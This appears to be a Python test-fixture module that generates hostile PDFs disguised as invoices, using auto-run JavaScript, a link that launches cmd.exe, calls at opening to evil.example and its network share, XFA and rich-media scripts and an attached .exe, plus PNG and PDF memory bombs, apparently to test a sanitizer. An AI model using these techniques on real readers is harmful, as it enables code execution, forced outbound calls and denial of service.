"""Files made to hurt who opens them: thirteen PDFs that act, and two that take the memory of whoever unpacks them."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name
from PIL import Image

JS = "app.alert('pris')"
PIEGE = "https://evil.example/piege"


def _js() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=JS)


def _suite_directe(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=_js())


def _suite_en_liste(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=Array([_js()]))


def _ouverture(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = pdf.make_indirect(_js())


def _catalogue(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AA = Dictionary(WC=_js())


def _page(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.Named, N=Name.NextPage, Next=_js()))


def _noms(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([pikepdf.String("a"), _js()])))


def _annoter(pdf: pikepdf.Pdf, **cles: pikepdf.Object) -> None:
    annotation = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 100, 100]), **cles)
    pdf.pages[0].obj.Annots = Array([annotation])


def _lancer(pdf: pikepdf.Pdf) -> None:
    lancer = Dictionary(S=Name.Launch, Win=Dictionary(F=pikepdf.String("cmd.exe"), P=pikepdf.String("/c calc")))
    _annoter(pdf, Subtype=Name.Link, A=lancer)


def _champ(pdf: pikepdf.Pdf) -> None:
    _annoter(pdf, Subtype=Name.Widget, FT=Name.Tx, T=pikepdf.String("nom"), AA=Dictionary(K=_js(), Fo=_js()))
    pdf.Root.AcroForm = Dictionary(Fields=pdf.pages[0].obj.Annots)


def _appeler(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.URI, URI=pikepdf.String(PIEGE))


def _partage(pdf: pikepdf.Pdf) -> None:
    _annoter(
        pdf,
        Subtype=Name.Link,
        A=Dictionary(S=Name.GoToR, F=pikepdf.String("\\\\evil.example\\share\\a.pdf"), D=Array([0, Name.Fit])),
    )


def _xfa(pdf: pikepdf.Pdf) -> None:
    programme = b"<template><script contentType='application/x-javascript'>app.alert(1)</script></template>"
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([pdf.make_indirect(Dictionary(FT=Name.Tx, T=pikepdf.String("nom")))]),
        XFA=pdf.make_stream(programme),
    )


def _media(pdf: pikepdf.Pdf) -> None:
    film = Dictionary(Type=Name.Filespec, F=pikepdf.String("a.swf"), EF=Dictionary(F=pdf.make_stream(b"FWS film")))
    _annoter(
        pdf,
        Subtype=Name.RichMedia,
        RichMediaContent=Dictionary(Assets=Dictionary(Names=Array([pikepdf.String("a.swf"), film]))),
        RichMediaSettings=Dictionary(Activation=Dictionary(Condition=Name.PO)),
    )


def _joint(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["facture.exe"] = b"MZ programme"


PDF: dict[str, Callable[[pikepdf.Pdf], None]] = {
    "JavaScript at opening": _ouverture,
    "JavaScript after another action": _suite_directe,
    "JavaScript after another action, in an array": _suite_en_liste,
    "additional action of the catalogue": _catalogue,
    "additional action of a page": _page,
    "JavaScript among names": _noms,
    "a program launched by a link": _lancer,
    "actions of a form field": _champ,
    "an address called at opening": _appeler,
    "a document of another host's share": _partage,
    "script of an XFA form": _xfa,
    "rich media": _media,
    "a program attached": _joint,
}


def pdf(rend_hostile: Callable[[pikepdf.Pdf], None]) -> bytes:
    """A PDF of one page that says « Facture », made hostile; its objects are compressed together."""
    sortie = io.BytesIO()
    with pikepdf.new() as document:
        police = document.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
        page = document.add_blank_page()
        page.obj.Resources = Dictionary(Font=Dictionary(A=police))
        page.obj.Contents = document.make_stream(b"BT /A 12 Tf 20 20 Td (Facture) Tj ET")
        rend_hostile(document)
        document.save(sortie, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return sortie.getvalue()


def signable(*, signe: bool) -> bytes:
    """A PDF whose field, in a group of fields, is for a signature; signed or not yet."""

    def remplir(document: pikepdf.Pdf) -> None:
        champ = document.make_indirect(Dictionary(T=pikepdf.String("visa"), FT=Name.Sig))
        if signe:
            champ.V = document.make_indirect(
                Dictionary(Type=Name.Sig, Filter=Name("/Adobe.PPKLite"), Contents=pikepdf.String("0" * 64))
            )
        document.Root.AcroForm = Dictionary(Fields=Array([Dictionary(Kids=Array([champ]))]), SigFlags=3)

    return pdf(remplir)


def image_enorme(largeur: int = 7071, hauteur: int = 7070) -> bytes:
    """A PNG of 190 KiB that takes 800 MiB to turn upright."""
    tournee = Image.Exif()
    tournee[0x0112] = 6
    sortie = io.BytesIO()
    Image.new("RGBA", (largeur, hauteur)).save(sortie, "PNG", exif=tournee)
    return sortie.getvalue()


def pdf_enorme(mio: int = 600) -> bytes:
    """A PDF of one page whose objects are so many MiB of spaces, 1 KiB each once compressed."""
    paquet = zlib.compressobj(9)
    objets = paquet.compress(b"3 0 ") + b"".join(paquet.compress(b" " * 2**20) for _ in range(mio))
    objets += paquet.compress(b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>") + paquet.flush()
    morceaux = {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        4: b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%b\nendstream" % (len(objets), objets),
    }
    sortie, places = b"%PDF-1.5\n", {3: b"\x02" + (4).to_bytes(4, "big") + b"\0"}
    for numero, morceau in morceaux.items():
        places[numero] = b"\x01" + len(sortie).to_bytes(4, "big") + b"\0"
        sortie += b"%d 0 obj\n%b\nendobj\n" % (numero, morceau)
    debut = len(sortie)
    places |= {0: b"\0" * 6, 5: b"\x01" + debut.to_bytes(4, "big") + b"\0"}
    table = b"".join(places[numero] for numero in range(6))
    return sortie + (
        b"5 0 obj\n<</Type/XRef/Size 6/W[1 4 1]/Root 1 0 R/Length %d>>stream\n%b\nendstream\nendobj\n"
        b"startxref\n%d\n%%%%EOF\n" % (len(table), table, debut)
    )
